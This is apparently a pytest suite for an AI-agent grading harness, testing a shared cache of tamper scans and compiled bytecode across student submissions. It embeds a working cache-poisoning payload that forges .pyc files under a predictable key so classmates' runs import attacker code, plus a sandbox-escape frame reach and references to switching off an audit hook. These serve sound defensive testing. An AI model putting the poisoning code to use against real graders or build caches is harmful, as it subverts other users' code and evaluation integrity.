"""What a batch derives from files' bytes is made once, and each submission still gets its own.

A cohort's submissions share most of their files byte for byte. A batch keeps each file's
tamper-scan reading and bytecode (``grader._cache.Derived``) in a folder of its own, so a
file many submissions hold is parsed and compiled once. These tests hold it to three
things: what it keeps is exactly what a grading alone would make; a file that differs is
read as its own, whichever submission came first; and no sandboxed run can reach the
folder to plant bytecode that a classmate's run would import.

It tests private helpers on purpose: ``grader._cache``'s folder, and the bytecode
(``_layout._bytecode``) and tamper scan (``_tamper._scan``) it keeps, with their format
versions.
"""

from __future__ import annotations

import importlib.util
import marshal
import os
import py_compile
import sys
import textwrap
from collections.abc import Iterator
from pathlib import Path

import pytest

from grader import _cache
from grader._cache import Derived, content_key
from grader.sandbox import LaidOut, _layout
from grader.sandbox._layout import _bytecode
from grader.submission import _tamper, load_manifest, tamper_findings
from tests.grader.batch.test_batch_safety import HOOK_OFF, Grader, short_rubric
from tests.submissions import make_submission

CLEAN = "def run(provider, task, tools=None):\n    return provider.complete(task)\n"
REACHING = "import sys\n\n\ndef run(provider, task, tools=None):\n    return sys._getframe(1)\n"
HELPER = 'WORD = "honest"\n'


@pytest.fixture
def grader(tmp_path: Path) -> Iterator[Grader]:
    batch = Grader(tmp_path / "batch")
    yield batch
    batch.close()


def lab(root: Path, agent: str, helper: str = HELPER) -> Path:
    """A submission whose ``lab`` package is an agent module and a helper beside it."""
    (root / "lab").mkdir(parents=True)
    (root / "pyproject.toml").write_text('[tool.gradekit]\nagent = "lab.agent:run"\n', "utf-8")
    (root / "lab" / "__init__.py").write_text("")
    (root / "lab" / "agent.py").write_text(agent, encoding="utf-8")
    (root / "lab" / "helper.py").write_text(helper, encoding="utf-8")
    return root


def pyc_of(copy: Path, module: str) -> bytes:
    found = list((copy / "lab" / "__pycache__").glob(f"{module}.*.pyc"))
    assert len(found) == 1, found
    return found[0].read_bytes()


def value_in(pyc: bytes, name: str) -> object:
    """``name`` after running the pyc's code (its 16-byte header skipped)."""
    scope: dict[str, object] = {}
    exec(marshal.loads(pyc[16:]), scope)  # the test's own source
    return scope[name]


@pytest.mark.parametrize(
    "source",
    [
        CLEAN.encode(),
        REACHING.encode(),
        HELPER.encode(),
        "class A:\n    def f(self):\n        return [lambda: 'ü' for _ in range(2)]\n".encode(),
        b"# -*- coding: latin-1 -*-\nWORD = '\xe9'\n",
    ],
)
def test_bytecode_is_the_bytes_py_compile_writes(tmp_path: Path, source: bytes) -> None:
    path = tmp_path / "module.py"
    path.write_bytes(source)
    written = tmp_path / "module.pyc"
    py_compile.compile(
        str(path),
        cfile=str(written),
        dfile="lab/module.py",
        doraise=True,
        invalidation_mode=py_compile.PycInvalidationMode.CHECKED_HASH,
    )
    assert _bytecode(path.read_bytes(), "lab/module.py") == written.read_bytes()


def test_a_source_that_warns_or_does_not_compile_has_no_bytecode() -> None:
    assert _bytecode(b"x = 1 is 1\n", "lab/m.py") == b""  # SyntaxWarning: the child's to say
    assert _bytecode(b"def (:\n", "lab/m.py") == b""
    assert _bytecode(b"x = 1\n", "lab/m.py")


def test_each_distinct_file_is_scanned_and_compiled_once(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    scanned: list[bytes] = []
    compiled: list[str] = []
    scan, bytecode = _tamper._scan, _layout._bytecode

    def counted_scan(data: bytes) -> tuple[list[tuple[int, str]], set[str]]:
        scanned.append(data)
        return scan(data)

    def counted_bytecode(data: bytes, name: str) -> bytes:
        compiled.append(name)
        return bytecode(data, name)

    monkeypatch.setattr(_tamper, "_scan", counted_scan)
    monkeypatch.setattr(_layout, "_bytecode", counted_bytecode)
    derived = Derived(tmp_path / "derived")
    alice, bob = lab(tmp_path / "alice", CLEAN), lab(tmp_path / "bob", CLEAN)
    carol = lab(tmp_path / "carol", REACHING)
    for root in (alice, bob, carol):
        tamper_findings(root, load_manifest(root), derived)
        LaidOut(derived=derived).source(root, tmp_path / "scratch" / root.name, ["lab"])
    # alice's three files, then nothing of bob's (the same bytes), then carol's agent only
    assert sorted(scanned) == sorted([b"", CLEAN.encode(), HELPER.encode(), REACHING.encode()])
    assert compiled == ["lab/__init__.py", "lab/agent.py", "lab/helper.py", "lab/agent.py"]


@pytest.mark.parametrize("order", [("alice", "carol"), ("carol", "alice")])
def test_a_file_that_differs_is_read_as_its_own_whoever_came_first(
    tmp_path: Path, order: tuple[str, str]
) -> None:
    roots = {
        "alice": lab(tmp_path / "alice", CLEAN),
        "carol": lab(tmp_path / "carol", REACHING, helper='WORD = "carol"\n'),
    }
    alone = {name: tamper_findings(root, load_manifest(root)) for name, root in roots.items()}
    assert alone["alice"] == [] and len(alone["carol"]) == 1  # carol's reach is flagged
    derived = Derived(tmp_path / "derived")
    for name in order:
        root = roots[name]
        assert tamper_findings(root, load_manifest(root), derived) == alone[name]
        copy = LaidOut(derived=derived).source(root, tmp_path / "scratch" / name, ["lab"])
        fresh = LaidOut().source(root, tmp_path / "fresh" / name, ["lab"])
        for module in ("__init__", "agent", "helper"):
            assert pyc_of(copy, module) == pyc_of(fresh, module)
        helper = pyc_of(copy, "helper")
        assert helper[8:16] == importlib.util.source_hash((root / "lab" / "helper.py").read_bytes())
        assert value_in(helper, "WORD") == ("honest" if name == "alice" else "carol")


def test_a_kept_entry_that_is_not_one_is_made_again(tmp_path: Path) -> None:
    root = lab(tmp_path / "carol", REACHING)
    derived = Derived(tmp_path / "derived")
    truth = tamper_findings(root, load_manifest(root))
    fresh = LaidOut().source(root, tmp_path / "fresh", ["lab"])
    for data in (b"not json", b'{"reaches": 3}', b'{"imports": []}'):
        derived.write("scan", content_key(_tamper._SCAN_VERSION, REACHING.encode()), data)
        assert tamper_findings(root, load_manifest(root), derived) == truth
    kept = derived.read("scan", content_key(_tamper._SCAN_VERSION, REACHING.encode()))
    assert kept is not None and kept.startswith(b'{"reaches": [[')  # made again, and kept
    key = content_key(
        _layout._PYC_VERSION,
        sys.implementation.cache_tag.encode(),
        b"lab/agent.py",
        REACHING.encode(),
    )
    derived.write("pyc", key, b"")  # kept as "does not compile": the child compiles it
    copy = LaidOut(derived=derived).source(root, tmp_path / "scratch", ["lab"])
    assert not list((copy / "lab" / "__pycache__").glob("agent.*.pyc"))
    assert pyc_of(copy, "helper") == pyc_of(fresh, "helper")


def test_an_entry_name_that_is_not_a_digest_is_refused(tmp_path: Path) -> None:
    derived = Derived(tmp_path / "derived")
    for kind, key in (("pyc", "../" + "a" * 61), ("../pyc", "a" * 64), ("pyc", "A" * 64)):
        with pytest.raises(ValueError, match="not a cache entry"):
            derived.read(kind, key)
    assert not (tmp_path / "derived").exists()


# The attack: the hand-out's helper.py is the same bytes in every submission, so its key is
# known to everyone. Mallory, graded first, writes bytecode under that key that makes the
# helper say "poisoned"; every classmate graded after her would import it.
PLANT = textwrap.dedent("""\
    import glob
    import hashlib
    import importlib.util
    import marshal
    import os
    import sys

    from lab import helper


    def key(*parts):
        digest = hashlib.sha256()
        for part in parts:
            digest.update(len(part).to_bytes(8, "big"))
            digest.update(part)
        return digest.hexdigest()


    def run(provider, task, tools=None):
        source = {source!r}.encode()
        name = key(b"gradekit.pyc/1", sys.implementation.cache_tag.encode(), b"lab/helper.py",
                   source)
        code = compile('WORD = "poisoned"\\n', "lab/helper.py", "exec")
        pyc = (importlib.util.MAGIC_NUMBER + (3).to_bytes(4, "little")
               + importlib.util.source_hash(source) + marshal.dumps(code))
        planted = []
        for folder in glob.glob({tmp!r} + "/gradekit-zygote-*/derived"):
            try:
                os.makedirs(folder + "/pyc", exist_ok=True)
                with open(folder + "/pyc/" + name, "wb") as entry:
                    entry.write(pyc)
                planted.append(folder)
            except OSError:
                pass
        if planted:
            raise LookupError("planted")
        return provider.complete(task)
    """)
SAYS = textwrap.dedent("""\
    from lab import helper


    def run(provider, task, tools=None):
        if helper.WORD != "honest":
            raise LookupError("poisoned")
        return provider.complete(task)
    """)


def test_the_plant_works_where_the_folder_can_be_reached(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The attack below is real: run where the batch's folder is in reach (this process),
    the victim's laid-out helper is mallory's code."""
    derived = Derived(tmp_path / "gradekit-zygote-x" / "derived")
    mallory = lab(tmp_path / "mallory", PLANT.format(source=HELPER, tmp=str(tmp_path)))
    victim = lab(tmp_path / "victim", SAYS)
    LaidOut(derived=derived).source(mallory, tmp_path / "scratch-m", ["lab"])  # kept first
    scope: dict[str, object] = {}
    kept = {
        name: sys.modules.pop(name) for name in list(sys.modules) if name.partition(".")[0] == "lab"
    }  # mallory's lab, not one imported before
    monkeypatch.syspath_prepend(str(mallory))
    try:
        exec((mallory / "lab" / "agent.py").read_text(), scope)  # the test's own source
        with pytest.raises(LookupError, match="planted"):
            scope["run"](None, "task")  # type: ignore[operator]
    finally:
        for name in [name for name in sys.modules if name.partition(".")[0] == "lab"]:
            del sys.modules[name]
        sys.modules.update(kept)
    # The victim is graded by another worker (a fresh process): nothing kept in memory.
    monkeypatch.setattr(_cache, "_MEMORY", {})
    copy = LaidOut(derived=derived).source(victim, tmp_path / "scratch-v", ["lab"])
    assert value_in(pyc_of(copy, "helper"), "WORD") == "poisoned"


@pytest.mark.slow
def test_a_run_cannot_plant_bytecode_a_classmate_would_import(
    tmp_path: Path, grader: Grader
) -> None:
    """Behind namespaces the runs' hosts see the batch's scratch folder only; the kept
    bytecode is in the zygote's folder beside it, which no run can reach. Mallory, graded
    first, finds no folder to plant in; the victim after her imports its own helper."""
    subs = tmp_path / "subs"
    lab(subs / "a-mallory", PLANT.format(source=HELPER, tmp=str(grader.tmp)))
    lab(subs / "b-victim", SAYS)
    args = ("--jobs", "1", "--wall", "namespaces", "--rubric", short_rubric(tmp_path))
    batch = grader.grade(subs, *args)
    if batch.code != 0 and "bubblewrap" in batch.stderr:
        pytest.skip("namespaces cannot be built here")
    assert set(batch.rows) == {"a-mallory", "b-victim"}, batch.explain()
    reports = {name: (grader.out / name / "report.md").read_text("utf-8") for name in batch.rows}
    assert "LookupError" not in reports["a-mallory"] + reports["b-victim"]
    alone = Grader(tmp_path / "alone")
    try:
        (tmp_path / "only").mkdir()
        (subs / "b-victim").rename(tmp_path / "only" / "b-victim")
        single = alone.grade(tmp_path / "only", *args)
    finally:
        alone.close()
    assert single.rows["b-victim"]["digest"] == batch.rows["b-victim"]["digest"]


@pytest.mark.slow
def test_behind_the_process_guard_alone_a_switched_off_hook_plants_it(
    tmp_path: Path, grader: Grader
) -> None:
    """What docs/sandbox.md says gets through behind the process wall alone: a run that
    switches the hook off writes anywhere the grading user may, the batch's kept bytecode
    among it. The same attack as above, and this time the victim imports mallory's code."""
    subs = tmp_path / "subs"
    plant = PLANT.replace(
        "    planted = []\n",
        "    import _thread\n    import gc\n"
        + textwrap.indent(HOOK_OFF, "    ")
        + "    planted = []\n",
    )
    assert plant != PLANT
    lab(subs / "a-mallory", plant.format(source=HELPER, tmp=str(grader.tmp)))
    lab(subs / "b-victim", SAYS)
    batch = grader.grade(
        subs, "--jobs", "1", "--wall", "process", "--rubric", short_rubric(tmp_path)
    )
    reports = {name: (grader.out / name / "report.md").read_text("utf-8") for name in batch.rows}
    # the hook switched off is seen at mallory's next verdict: its case is lost, flagged
    assert "the agent replaced the harness's code (audit hook)" in reports["a-mallory"]
    if os.geteuid() == 0:  # a root grader's children are uid 65534: the kept bytecode is not
        assert "LookupError" not in reports["b-victim"], reports["b-victim"]
    else:  # children of the grader's own user write where it may
        assert "LookupError" in reports["b-victim"]


def test_make_submission_is_the_reference_lab_a_derived_batch_is_proved_against(
    tmp_path: Path,
) -> None:
    """The reference lab's own files read the same through a batch's store as alone (the
    shipped example, every module of it)."""
    root = make_submission(tmp_path / "alice")
    derived = Derived(tmp_path / "derived")
    alone = tamper_findings(root, load_manifest(root))
    assert tamper_findings(root, load_manifest(root), derived) == alone  # made and kept
    assert tamper_findings(root, load_manifest(root), derived) == alone  # read back
    kept = LaidOut(derived=derived).source(root, tmp_path / "kept", ["lab"])
    again = LaidOut(derived=derived).source(root, tmp_path / "again", ["lab"])
    fresh = LaidOut().source(root, tmp_path / "fresh", ["lab"])
    pycs = sorted(p.relative_to(fresh) for p in fresh.rglob("*.pyc"))
    assert pycs and pycs == sorted(p.relative_to(kept) for p in kept.rglob("*.pyc"))
    for pyc in pycs:
        assert (kept / pyc).read_bytes() == (fresh / pyc).read_bytes() == (again / pyc).read_bytes()
